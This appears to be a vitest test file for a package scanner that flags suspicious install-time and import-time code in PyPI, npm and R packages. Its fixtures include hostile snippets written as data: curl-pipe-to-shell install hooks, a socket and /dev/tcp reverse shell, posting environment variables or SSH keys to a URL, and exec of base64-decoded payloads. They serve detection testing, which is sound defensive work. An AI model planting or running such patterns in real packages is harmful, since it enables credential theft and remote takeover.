import { describe, expect, it } from 'vitest';
import { A_WHEEL, findingsIn, itKeepsTheContentScannerContract } from '../../../test/contract/content-scanner.ts';
import { hasWeight, heldCode } from '../../../test/corpora/malware-held.ts';
import { readSnippets } from '../../../test/corpora/snippets.ts';
import { contentFile } from '../../../test/harness/content.ts';
import { installCodeScanner } from './index.ts';

const SDIST = { ...A_WHEEL, filename: 'demo_pkg-1.0.tar.gz' };
const PE = new Uint8Array(128);
PE.set([0x4d, 0x5a]);
PE[0x3c] = 64;
PE.set([0x50, 0x45, 0, 0, 0x64, 0x86], 64);

/** Sign, path, text. */
const BAD: readonly (readonly [string, string, string])[] = [
  ['path-file-code', 'x.pth', 'import x_hook\n'],
  ['path-file-payload', 'x.pth', 'import os; exec(__import__("base64").b64decode("eA=="))\n'],
  [
    'path-file-payload',
    'demo-1.data/purelib/x.pth',
    'import urllib.request; x = urllib.request.urlopen("https://a.example")\n',
  ],
  ['start-up-module', 'sitecustomize.py', 'x = 1\n'],
  ['shadowed-command', 'demo_pkg-1.0.data/scripts/pip', '#!/bin/sh\n'],
  ['shadowed-command', 'demo_pkg-1.0.dist-info/entry_points.txt', '[console_scripts]\nsudo = demo:main\n'],
  ['lifecycle-script', 'package/package.json', '{"scripts": {"postinstall": "node build.js"}}'],
  ['lifecycle-download', 'package/package.json', '{"scripts": {"preinstall": "curl https://a.example | sh"}}'],
  ['lifecycle-script', 'package/node_modules/@a/b/package.json', '{"scripts": {"install": "node build.js"}}'],
  ['load-hook', 'demo/R/zzz.R', '.onLoad <- function(lib, pkg) {\n  system("id")\n}\n'],
  ['configure-download', 'demo/configure', '#!/bin/sh\ncurl -O https://a.example/x\n'],
  ['decoded-code', 'pkg/a.py', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'],
  ['decoded-code', 'pkg/a.py', 'import base64, zlib\np = zlib.decompress(base64.b64decode(blob))\nexec(p)\n'],
  ['decoded-code', 'pkg/a.py', 'exec("".join(map(chr, [112, 114])))\n'],
  ['decoded-code', 'pkg/a.py', '__import__("builtins").exec(bytes.fromhex("7072"))\n'],
  ['decoded-code', 'pkg/a.js', 'eval(atob("YWxlcnQoMSk="))\n'],
  ['decoded-code', 'pkg/a.js', 'eval(Buffer.from(x, "base64").toString())\n'],
  ['download-and-run', 'pkg/a.py', 'import requests\nexec(requests.get(u).text)\n'],
  [
    'download-and-run',
    'pkg/a.py',
    'import os, urllib.request\ndef go():\n  urllib.request.urlretrieve(u, p)\n  os.system(p)\n',
  ],
  ['network-at-load', 'pkg/__init__.py', 'import requests\nrequests.get("https://a.example")\n'],
  ['network-at-load', 'pkg/__init__.py', '#!/usr/bin/env python\nimport requests\nrequests.get("https://a.example")\n'],
  ['network-at-load', 'pkg/tools/__init__.py', '#!/bin/sh\nimport requests\nrequests.get("https://a.example")\n'],
  [
    'hidden-text-direction',
    'pkg/a.py',
    `x = "${'a'.repeat(2100)} \u202e b"\nif a: # \u202e } \u2066 if admin\n  pass\n`,
  ],
  ['invisible-character', 'pkg/a.py', `x = "${'a'.repeat(2100)}\u200bb"\ne\u200bval = 1\n`],
  ['mining', 'pkg/a.py', '# stratum+tcp://a.example\nu = "stratum+tcp://a.example"\n'],
  ['network-at-load', 'pkg/__init__.py', 'import requests as r; x = r.get("https://a.example")\n'],
  ...[
    'import http.client\nhttp.client.HTTPSConnection("a.example").request("GET", "/")\n',
    'from http import client as c\nx = c.HTTPConnection("a.example")\nx.request("GET", "/")\n',
    'import urllib3\nurllib3.PoolManager().request("GET", "https://a.example")\n',
    'import urllib3 as u; u.request("GET", "https://a.example")\n',
    'import aiohttp, asyncio\nasync def go():\n  await aiohttp.ClientSession().post(u, data=x)\nasyncio.run(go())\n',
    'from ftplib import FTP\nFTP("a.example")\n',
    'import smtplib\nsmtplib.SMTP("a.example").sendmail(a, b, c)\n',
    'import paramiko\nparamiko.SSHClient().connect("a.example")\n',
    'import psycopg2\npsycopg2.connect("host=a.example")\n',
    'try: import requests\nexcept ImportError: pass\nrequests.get("https://a.example")\n',
    'import requests\nclass K:\n  def __init__(self):\n    requests.get(u)\nK()\n',
    'import requests\nclass K:\n  def __enter__(self): pass; requests.get(u)\nwith K(): pass\n',
    'import requests\nclass K:\n  @staticmethod\n  def m(): requests.get(u)\nK.m()\n',
    'import requests\nclass K:\n  def m(self): requests.get(u)\nk = K()\nk.m()\n',
    'import atexit, requests\n@atexit.register\ndef f(): requests.get(u)\n',
    'import requests\n@lambda f: f()\ndef f(): requests.get(u)\n',
    'import requests\nif __name__ != "__main__": pass; requests.get(u)\n',
  ].map((text): readonly [string, string, string] => ['network-at-load', 'pkg/__init__.py', text]),
  ['process-at-load', 'pkg/__init__.py', 'import os\nos.system("id")\n'],
  ['process-at-load', 'pkg/__init__.py', 'import os\nif x:\n  os.system("id")\n'],
  ['process-at-load', 'pkg/__init__.py', 'import os as o\no.system("id")\n'],
  ['process-at-load', 'pkg/__init__.py', 'import os as o\ndef f() -> o.popen("id"): pass\n'],
  ['environment-and-network', 'pkg/a.py', 'import os, requests\nrequests.post(u, json=dict(os.environ))\n'],
  [
    'environment-and-network',
    'pkg/a.js',
    'const https = require("https");\nhttps.request(o).write(JSON.stringify(process.env))\n',
  ],
  ['credentials-and-network', 'pkg/a.py', 'import requests\nrequests.post(u, data=open(home + "/.ssh/id_rsa"))\n'],
  ['credential-store', 'pkg/a.py', 'p = "~/.aws/credentials"\n'],
  ['drop-point', 'pkg/a.py', `u = "https://chat.example/api/webhooks/123456789012345678/${'a'.repeat(60)}"\n`],
  [
    'reverse-shell',
    'pkg/a.py',
    'import socket, os, subprocess\ns = socket.socket()\ns.connect((h, 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n',
  ],
  ['reverse-shell', 'pkg/a.py', 'x = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"\n'],
  [
    'self-extraction',
    'pkg/a.py',
    'import base64, subprocess\ndef go():\n  f = open(p, "wb")\n  f.write(base64.b64decode(blob))\n  subprocess.run([p])\n',
  ],
  ['hidden-text-direction', 'pkg/a.py', 'x = 1 # \u202e } \u2066if admin\u2069\n'],
  ['invisible-character', 'pkg/a.js', 'var pass\u200bword = 1;\n'],
  ['mixed-script-name', 'pkg/a.py', 'def p\u0430yload(): pass\n'],
  ['code-beyond-the-screen', 'pkg/a.py', `x = 1;${' '.repeat(200)}import os\n`],
];

const CLEAN: Readonly<Record<string, string>> = {
  'pkg/plain.py': 'import os, requests\ndef go():\n  return requests.get(u, headers={"h": os.environ.get("X")})\n',
  'pkg/decode.py': 'import base64\ndata = base64.b64decode(x)\nre.compile(data)\nmodel.eval()\n',
  'pkg/main.py': 'import subprocess\nif __name__ == "__main__":\n  subprocess.run(["ls"])\n',
  'pkg/words.py': '"""exec(base64.b64decode(x))"""\n# eval(atob(x))\n',
  'pkg/env.py': 'import os, subprocess\ndef go():\n  subprocess.run(["ls"], env=dict(os.environ))\n',
  'pkg/bundle.js': 'const g = Function("return this")(); const s = atob(x);',
  'paths.pth': '/opt/other\n# import x\n',
  'demo_pkg-1.0.dist-info/entry_points.txt': '[console_scripts]\ndemo = demo:main\n',
  'pkg/docs.py': 'name = "\u043f\u0440\u0438\u0432\u0435\u0442 world"\n',
  'pkg/package.json': '{"scripts": {"postinstall": "curl https://a.example | sh"}}',
  'setup.py': 'from setuptools import setup\nsetup(name="demo")\n',
};

itKeepsTheContentScannerContract(installCodeScanner, {
  found: Object.fromEntries(BAD.map(([sign, path, text], at) => [`${at} ${sign}`, { [path]: text }])),
  clean: Object.fromEntries(Object.entries(CLEAN).map(([path, text]) => [path, { [path]: text }])),
  seeds: [
    'import os; exec(base64.b64decode(x))',
    'eval(atob(x))',
    '((((',
    '"~/.ssh/id_rsa"',
    ' '.repeat(300),
    'x\u202ey',
  ],
});

describe('code at install and import', () => {
  it.each(BAD)('%s in %s: %s', async (sign, path, text) => {
    const found = await findingsIn(installCodeScanner, { [path]: text });
    expect(found.map(({ data }) => data.sign)).toContain(sign);
  });

  it.each([
    ['setup-network', 'import urllib.request\nurllib.request.urlopen(u)\n'],
    ['setup-network-and-code', 'import requests, os\nos.system(requests.get(u).text)\n'],
    ['setup-processes', 'import subprocess\nsubprocess.run(["make"])\n'],
  ])('%s: setup.py runs in source distributions only', async (sign, text) => {
    const signs = async (subject: typeof A_WHEEL) =>
      (await findingsIn(installCodeScanner, { 'demo_pkg-1.0/setup.py': text }, subject)).map(({ data }) => data.sign);
    expect(await signs(SDIST)).toContain(sign);
    expect(await signs(A_WHEEL)).not.toContain(sign);
  });

  it('counts programs in a wheel that calls itself pure', async () => {
    const pure = await findingsIn(installCodeScanner, { 'pkg/t64.exe': PE });
    expect(pure).toMatchObject([
      { data: { sign: 'programs-in-pure-package', count: 1, files: [{ machine: 'x86_64' }] } },
    ]);
    const built = { ...A_WHEEL, filename: 'demo_pkg-1.0-cp312-cp312-win_amd64.whl' };
    expect(await findingsIn(installCodeScanner, { 'pkg/t64.exe': PE }, built)).toEqual([]);
  });

  it('names compiled Python without its source, and source files that are no text', async () => {
    const bytecode = Uint8Array.of(0xcb, 0x0d, 13, 10, ...new Uint8Array(60));
    const found = await findingsIn(installCodeScanner, {
      'pkg/a.py': 'x = 1\n',
      'pkg/__pycache__/a.cpython-312.pyc': bytecode,
      'pkg/b.pyc': bytecode,
      'pkg/c.py': Uint8Array.of(0x50, 0x4b, 3, 4, 0, 0, 0),
      'pkg/d.py': Uint8Array.of(0xff, 0xfe, 0x78, 0),
    });
    expect(found.map(({ data, location }) => [data.sign, location])).toEqual([
      ['bytecode-without-source', 'pkg/b.pyc'],
      ['source-that-is-no-text', 'pkg/c.py'],
    ]);
  });

  it.each([
    ['lifecycle-network-and-code', 'require("https").get(u, (r) => require("child_process").exec(r));'],
    ['lifecycle-network', 'exports.go = () => require("https").get(u);'],
  ])('follows a lifecycle script into the file that it starts: %s', async (sign, text) => {
    const manifest = '{"scripts": {"postinstall": "node ./scripts/setup"}}';
    const files = { 'package/scripts/setup.js': text, 'package/package.json': manifest };
    const found = await findingsIn(installCodeScanner, files, { ...A_WHEEL, ecosystem: 'npm', filename: 'a-1.0.tgz' });
    expect(found.find(({ data }) => data.sign === sign)?.location).toBe('package/scripts/setup.js:1');
  });

  it.each([
    ['{"scripts": {"post\\u0069nstall": "node \\"./scripts/setup.js\\""}}', 'escaped'],
    [
      '{"config": {"install": "x"}, "scripts": {"install": "cd scripts && node --no-warnings ../scripts/setup"}}',
      'decoyed',
    ],
  ])('reads scripts as npm does, however they are written: %s', async (manifest) => {
    const npm = { ...A_WHEEL, ecosystem: 'npm', filename: 'a-1.0.tgz' };
    const crowd = Array.from(
      { length: 600 },
      (_, at) => [`package/lib/a${at}.js`, 'require("https").get(u);'] as const,
    );
    const setup = ['package/scripts/setup.js', 'require("https").get(u);'] as const;
    const files = Object.fromEntries([...crowd, setup, ['package/package.json', manifest.replace('../', './')]]);
    const found = await findingsIn(installCodeScanner, files, npm);
    expect(found.map(({ data }) => data.sign)).toContain('lifecycle-script');
    expect(found.find(({ data }) => data.sign === 'lifecycle-network')?.location).toBe('package/scripts/setup.js:1');
  });

  it('follows a script into bytes that stood elsewhere before, and tells what node-gyp is made to run', async () => {
    const npm = { ...A_WHEEL, ecosystem: 'npm', filename: 'a-1.0.tgz' };
    const manifest = '{"scripts": {"install": "node setup.js"}}';
    const seen = contentFile('package/lib/a.js', 'require("https").get(u);');
    const again = { ...seen, path: 'package/setup.js', repeatOf: seen.path };
    const found = await findingsIn(
      installCodeScanner,
      [seen, again, contentFile('package/package.json', manifest)],
      npm,
    );
    expect(found.find(({ data }) => data.sign === 'lifecycle-network')?.location).toBe('package/setup.js:1');
    const gyp = { 'package/binding.gyp': '{"targets": [{"sources": ["<!(curl -s a.example | sh)"]}]}' };
    expect((await findingsIn(installCodeScanner, gyp, npm)).map(({ data }) => data.sign)).toEqual([
      'lifecycle-download',
    ]);
  });

  it('passes over long lines of decoys in no time', async () => {
    const decoys = `# ${'stratum+tcp://'.repeat(200_000)}\n# ${'a\u200bb'.repeat(400_000)}\nx = 1\n`;
    expect(await findingsIn(installCodeScanner, { 'pkg/a.py': decoys })).toEqual([]);
  }, 8_000);

  it.each([
    ['js', 'behind a statement of the same line', 'const a = 1; require("child_process").exec("id");\n'],
    ['js', 'in a block', 'if (process.platform) {\n  require("https").get("https://a.example");\n}\n'],
    [
      'js',
      'in a function that is called where it stands',
      '!(function () { require("child_process").exec("id"); })();\n',
    ],
    ['js', 'in a list of variables', 'var fs = require("fs"),\n  out = require("child_process").execSync("id");\n'],
    ['R', 'behind a statement of the same line', 'x <- 1; y <- system("id")\n'],
    ['R', 'in a block', 'if (interactive()) {\n  download.file("https://a.example/x", "x")\n}\n'],
    ['R', 'with a space before the bracket', 'system2 ("id")\n'],
  ])('sees what a %s file does when it is loaded, %s', async (extension, _, text) => {
    const subject = { ...A_WHEEL, ecosystem: extension === 'R' ? 'cran' : 'npm', filename: 'demo.tgz' };
    const found = await findingsIn(installCodeScanner, { [`package/R/load.${extension}`]: text }, subject);
    expect(found.map(({ data }) => data.sign)).toEqual([expect.stringMatching(/^(?:network|process)-at-load$/)]);
  });

  it.each([
    ['js', 'exports.go = () => {\n  require("child_process").exec("id");\n};\n'],
    ['js', 'class Go {\n  run() { require("https").get("https://a.example"); }\n}\n'],
    ['R', 'go <- function() {\n  system("id")\n}\n'],
  ])('does not take what a function of a %s file does for what loading does', async (extension, text) => {
    const subject = { ...A_WHEEL, ecosystem: extension === 'R' ? 'cran' : 'npm', filename: 'demo.tgz' };
    expect(await findingsIn(installCodeScanner, { [`package/R/load.${extension}`]: text }, subject)).toEqual([]);
  });

  it('never says that something is malicious', () => {
    expect(installCodeScanner.emits).toEqual(['install-code']);
  });
});

describe('look-alikes by rules of other tools', () => {
  const sets = ['held', 'second', 'third', 'fourth', 'fifth'].map((set) => `malware-${set}.txt`);
  const held = sets.flatMap(heldCode).filter(({ missed }) => !missed);
  const weight = async ({ path, text, subject }: (typeof held)[number]) =>
    (await findingsIn(installCodeScanner, { [path]: text }, subject)).filter(hasWeight);

  it.each(held.filter(({ malicious }) => malicious))('tells $label', async (one) => {
    expect(await weight(one)).not.toEqual([]);
  });

  it.each(held.filter(({ malicious }) => !malicious))('says nothing of weight of $label', async (one) => {
    expect(await weight(one)).toEqual([]);
  });
});

describe('the corpus of look-alikes', () => {
  const snippets = readSnippets('malware.txt');
  const told = async (rest: string, text: string) => {
    const [path = '', kind = 'pypi'] = rest.split(' ');
    const subject = { ...(kind === 'sdist' ? SDIST : A_WHEEL), ecosystem: kind === 'npm' ? 'npm' : 'pypi' };
    const found = await findingsIn(installCodeScanner, { [path]: text }, subject);
    return found.map(({ data, location }) => `${data.sign} ${location?.slice(path.length + 1)}`);
  };

  it('is told sign by sign, line by line', async () => {
    const missed: string[] = [];
    for (const { label, expected, rest, text, lines } of snippets) {
      if (expected === undefined) continue;
      const found = await told(rest, text);
      missed.push(...lines.filter((line) => !found.includes(`${expected} ${line}`)).map((line) => `${label}:${line}`));
    }
    expect(missed).toEqual([]);
  });

  it('holds harmless code of which nothing is told', async () => {
    const alarms: string[] = [];
    for (const { label, expected, rest, text } of snippets)
      if (expected === undefined) alarms.push(...(await told(rest, text)).map((one) => `${label}: ${one}`));
    expect(alarms).toEqual([]);
    expect(snippets.filter(({ expected }) => expected === undefined).length).toBeGreaterThanOrEqual(118);
    expect(snippets.filter(({ expected }) => expected !== undefined).length).toBeGreaterThanOrEqual(135);
  });

  it.each([
    'from aiohttp import web\nroutes = web.RouteTableDef()\n@routes.get("/")\nasync def h(r): pass\n',
    'from aiohttp import web\napp.add_routes([web.get("/", h), web.post("/x", h)])\n',
    'import http.client\nHTTPConnection = 1\nx = http.client.responses.get(404, "x")\n',
    'import psycopg2.errorcodes\nx = psycopg2.errorcodes.lookup.get("a")\n',
    'import grpc\nx = grpc.StatusCode.__members__.get("a")\n',
    'import requests\nclass A:\n  def __init__(self): pass\nclass B:\n  def __init__(self):\n    requests.get(u)\nA()\n',
    'import requests\nclass A:\n  def get(self): return requests.get(u)\nx = config.get("a")\n',
    'import requests\n@app.route("/")\ndef f(): requests.get(u)\n',
    'import requests\ndef f(): pass; requests.get(u)\n',
  ])('takes for no talk at load what only looks like it: %j', async (text) => {
    expect(await findingsIn(installCodeScanner, { 'pkg/__init__.py': text })).toEqual([]);
  });

  it('tells what comes together in one function, however many calls there are', async () => {
    const one =
      'import os, urllib.request\ndef f():\n  urllib.request.urlopen(a)\n  open(b, "w").write(c)\n  os.system(b)\n';
    const apart =
      'import os, urllib.request\ndef f():\n  urllib.request.urlopen(a)\n  open(b, "w").write(c)\ndef g():\n  os.system(b)\n';
    const began = process.cpuUsage();
    const found = await findingsIn(installCodeScanner, {
      'pkg/one.py': one,
      'pkg/apart.py': apart,
      'pkg/many.py': `import os\n${'os.system(b)\n'.repeat(40_000)}`,
    });
    expect(process.cpuUsage(began).user / 1000).toBeLessThan(8_000);
    expect(found.filter(({ data }) => data.sign === 'download-and-run').map(({ location }) => location)).toEqual([
      'pkg/one.py:5',
    ]);
  });

  it('reads a configure script of one long line in a moment, and takes it for what it may be', async () => {
    const began = process.cpuUsage();
    const found = await findingsIn(installCodeScanner, { 'demo/configure': 'curl https: '.repeat(20_000) });
    expect(process.cpuUsage(began).user / 1000).toBeLessThan(5_000);
    expect(found.map(({ data }) => data.sign)).toEqual(['configure-runs-download']);
  });
});
